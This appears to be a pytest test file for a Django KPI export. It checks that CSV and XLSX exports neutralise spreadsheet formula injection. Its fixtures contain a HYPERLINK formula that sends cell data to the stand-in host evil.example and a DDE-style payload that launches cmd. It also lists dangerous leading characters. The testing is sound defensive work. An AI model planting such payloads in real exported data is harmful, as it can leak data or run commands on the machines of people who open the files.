"""KPI CSV/XLSX exports never hand a spreadsheet a formula (CSV injection)."""

import csv
import io
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from kpi.models import Indicator, KpiResult
from kpi.services import kpi_compute_period
from tests.factories.kpi import inspection, local, month

NOW = local(2026, 12, 5, 9, 0)
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EVIL_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(org):
    org.agent_a.name = EVIL_NAME
    org.agent_a.employee_no = "-2+3"
    org.agent_a.save(update_fields=["name", "employee_no"])
    Indicator.objects.filter(code="qa_score_avg").update(name_zh=EVIL_LABEL)
    org.team_a.name = "+86 团队"
    org.team_a.save(update_fields=["name"])
    inspection(
        inspector=org.qa_inspector_a,
        staff=org.agent_a,
        at=local(2026, 11, 3, 10),
        score=8,
    )
    kpi_compute_period(actor=None, period=month(2026, 11), now=NOW)
    # a real negative figure (an NPS can be below zero) must stay a number
    KpiResult.objects.filter(
        period__key="2026-11", indicator__code="qa_score_avg", staff=org.agent_a
    ).update(value=D("-12.5"))
    return org


def _csv_rows(client):
    response = client.get("/kpi/export/?period=2026-11&format=csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_rows(client):
    response = client.get("/kpi/export/?period=2026-11&format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def _agent_qa_row(rows, org):
    return next(
        row
        for row in rows[1:]
        if row[2] == f"'{EVIL_NAME}" and row[4] == "qa_score_avg"
    )


@pytest.mark.django_db
def test_csv_escapes_formula_text_and_keeps_numbers(client, evil):
    client.force_login(evil.manager_a)
    rows = _csv_rows(client)

    row = _agent_qa_row(rows, evil)
    assert row[3] == "'-2+3"
    assert row[5] == f"'{EVIL_LABEL}"
    assert row[7] == "-12.5"  # the number, not "'-12.5"
    assert "'+86 团队" in {r[2] for r in rows[1:]}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for r in rows:
        for cell in r[:7]:
            assert not cell.startswith(dangerous), cell


@pytest.mark.django_db
def test_xlsx_holds_no_formula_and_negative_numbers_stay_numeric(client, evil):
    client.force_login(evil.manager_a)
    rows = _xlsx_rows(client)

    values = [[cell.value for cell in row] for row in rows]
    row_index = values.index(_agent_qa_row(values, evil))
    cells = rows[row_index]
    assert cells[2].data_type == "s" and cells[2].value == f"'{EVIL_NAME}"
    assert cells[5].value == f"'{EVIL_LABEL}"
    assert cells[7].data_type == "n" and cells[7].value == -12.5
    assert not any(cell.data_type == "f" for row in rows for cell in row)
